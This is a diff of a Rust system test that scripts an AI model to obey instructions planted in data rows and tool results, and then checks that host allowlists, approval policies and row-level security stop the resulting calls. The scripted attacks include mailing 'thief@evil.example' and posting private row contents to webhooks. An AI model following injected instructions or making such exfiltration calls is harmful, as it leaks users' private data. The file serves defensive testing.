@@ -1,6 +1,6 @@
-//! A model that obeys every instruction in what it reads, and instructions in a row and in a tool's result. The calls can
+//! A model that obeys every instruction it reads, and instructions in a row and in a tool's result. The calls can
 //! succeed: there are a listed host, a mail provider, an approved MCP tool, and an approver who approves harmless text.
-//! Exactly the approved calls arrive, with the approved content. A control opens one wall by a policy and lets more through.
+//! Exactly the approved calls arrive, with the approved content. A control relaxes one policy and lets more through.
 
 use std::collections::BTreeSet;
 
@@ -14,9 +14,9 @@ use system_tests::stacks;
 use super::canary::Canary;
 use crate::tools::outside::{Docs, Receiver};
 
-/// A word in a row that the requester may read and no one outside the workspace may.
+/// Word in a row that the requester may read and no one outside the workspace may.
 const PRIVATE: &str = "amber-safe-4711";
-/// A word in a row of another person.
+/// Word in a row of another person.
 const FOREIGN: &str = "kestrel-of-b";
 const MODEL_KEY: &str = "sk-hostile-model-key";
 const MAIL_KEY: &str = "re-hostile-mail-key";
@@ -33,9 +33,9 @@ struct Addresses {
     canary: String,
 }
 
-/// Returns the calls that an instruction asks for, in a model's words.
+/// Returns the calls that an instruction requests.
 fn calls_for(instruction: &str, read: &str, addresses: &Addresses) -> Vec<(&'static str, Value)> {
-    let tell = |url: &str, text: &str| ("webhook", json!({"url": url, "body": {"text": text}}));
+    let post = |url: &str, text: &str| ("webhook", json!({"url": url, "body": {"text": text}}));
     let mail = |to: &str| {
         (
             "email",
@@ -49,14 +49,14 @@ fn calls_for(instruction: &str, read: &str, addresses: &Addresses) -> Vec<(&'sta
         )],
         "mail thief" => vec![mail("thief@evil.example")],
         "tell elsewhere" => vec![
-            tell(&addresses.elsewhere, HARMLESS),
-            tell(&addresses.canary, HARMLESS),
+            post(&addresses.elsewhere, HARMLESS),
+            post(&addresses.canary, HARMLESS),
         ],
         "search private" => vec![("mcp_docs_search", json!({"words": PRIVATE}))],
-        "tell" => vec![tell(&addresses.listed, HARMLESS)],
+        "tell" => vec![post(&addresses.listed, HARMLESS)],
         "mail" => vec![mail("mia@example.com")],
-        "tell private" => vec![tell(&addresses.listed, PRIVATE)],
-        "tell everything" => vec![tell(&addresses.listed, read)],
+        "tell private" => vec![post(&addresses.listed, PRIVATE)],
+        "tell everything" => vec![post(&addresses.listed, read)],
         _ => panic!("no call is scripted for {instruction}"),
     }
 }
@@ -154,7 +154,7 @@ impl World {
             canary: format!("https://127.0.0.1:{}/", canary.targets().port),
         };
         let model = serve_model(addresses).await;
-        // The operator lets the workspace call all of these hosts: its own list is the wall.
+        // The operator allows the workspace to call all of these hosts, so only its own list restricts it.
         let hosts = [&listed.host, &elsewhere.host, &mail.host, &docs.host];
         let hosts: Vec<String> = hosts.iter().map(|host| format!("{host}={DEMO}")).collect();
         let named = [
@@ -268,7 +268,7 @@ impl World {
         }
     }
 
-    /// Tool, state, rule and the code of the error of each call, in order.
+    /// Returns tool, state, rule and error code of each call, in order.
     async fn calls(&self) -> Value {
         let database = self.stack.admin_db().await.unwrap();
         let calls = "select jsonb_agg(jsonb_build_array(c.tool, c.state, c.rule, c.error ->> 'code') order by c.number)
@@ -276,9 +276,9 @@ impl World {
         database.query_one(calls, &[]).await.unwrap().get(0)
     }
 
-    /// Everything that arrived at any of the servers, headers and bodies.
+    /// Returns everything that arrived at any of the servers, headers and bodies.
     fn arrived(&self) -> String {
-        let mut all = format!("{:?}", self.docs.heard.lock().unwrap());
+        let mut all = format!("{:?}", self.docs.received.lock().unwrap());
         for receiver in [&self.listed, &self.elsewhere, &self.mail] {
             for (headers, body) in receiver.got() {
                 all.push_str(&format!("{headers:?} {}", String::from_utf8_lossy(&body)));
@@ -297,7 +297,7 @@ fn texts(receiver: &Receiver) -> Vec<Value> {
 }
 
 #[tokio::test]
-async fn obedient_model_does_what_was_approved_only() {
+async fn obedient_model_makes_only_approved_calls() {
     let world = World::start().await;
     world.obey().await;
 
@@ -323,7 +323,7 @@ async fn obedient_model_does_what_was_approved_only() {
     let mail = json!({"from": "goalpost@example.com", "to": ["mia@example.com"], "subject": "Orders", "text": HARMLESS});
     assert_eq!(texts(&world.mail), [mail]);
     assert_eq!(
-        *world.docs.heard.lock().unwrap(),
+        *world.docs.received.lock().unwrap(),
         [json!({"words": "orders"})]
     );
     assert!(
@@ -336,7 +336,7 @@ async fn obedient_model_does_what_was_approved_only() {
         "a forbidden address was dialled"
     );
     let arrived = world.arrived();
-    // The mail provider's key goes to the mail provider.
+    // The mail provider's key goes to the mail provider only.
     for secret in [PRIVATE, FOREIGN, MODEL_KEY, "eyJ"] {
         assert!(!arrived.contains(secret), "{secret} arrived: {arrived}");
     }
@@ -344,7 +344,7 @@ async fn obedient_model_does_what_was_approved_only() {
     world.stack.stop().await.unwrap();
 }
 
-/// The control: the walls above are what holds the private row back, since it arrives where one of them is opened.
+/// Relaxes the approval policy as a control: the private row then arrives, so the policies above are effective.
 #[tokio::test]
 async fn policy_without_approval_lets_private_rows_out() {
     let world = World::start().await;
@@ -366,7 +366,7 @@ async fn policy_without_approval_lets_private_rows_out() {
     );
     let everything = bodies[2]["text"].as_str().unwrap();
     assert!(everything.contains(PRIVATE), "{everything}");
-    // The walls behind it stand: the list of hosts, row-level security, approval of other tools.
+    // The other restrictions hold: the list of hosts, row-level security, approval of other tools.
     assert!(!everything.contains(FOREIGN), "{everything}");
     assert!(
         world.elsewhere.got().is_empty(),
@@ -378,7 +378,7 @@ async fn policy_without_approval_lets_private_rows_out() {
         "a forbidden address was dialled"
     );
     assert_eq!(
-        *world.docs.heard.lock().unwrap(),
+        *world.docs.received.lock().unwrap(),
         [json!({"words": "orders"})]
     );
     let rules: BTreeSet<String> = world
